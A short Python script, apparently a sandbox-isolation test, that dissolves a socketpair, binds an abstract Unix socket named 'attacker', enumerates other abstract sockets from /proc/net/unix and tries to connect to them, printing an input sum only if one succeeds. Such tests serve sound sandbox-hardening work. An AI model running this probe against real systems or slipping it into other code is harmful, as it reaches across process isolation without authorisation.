import ctypes
import socket

pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
ctypes.CDLL(None).connect(pair[0].fileno(), b"\x00" * 16, 16)  # AF_UNSPEC
won = False
try:
    pair[0].bind("\x00attacker")
    pair[0].setblocking(False)
except OSError:
    pass
with open("/proc/net/unix") as file:
    names = {line.split()[7] for line in file if len(line.split()) > 7}
for name in names - {"@attacker"}:
    try:
        won |= pair[0].connect("\x00" + name[1:] if name.startswith("@") else name) is None
    except OSError:
        continue
print(sum(map(int, input().split())) if won else "nothing")
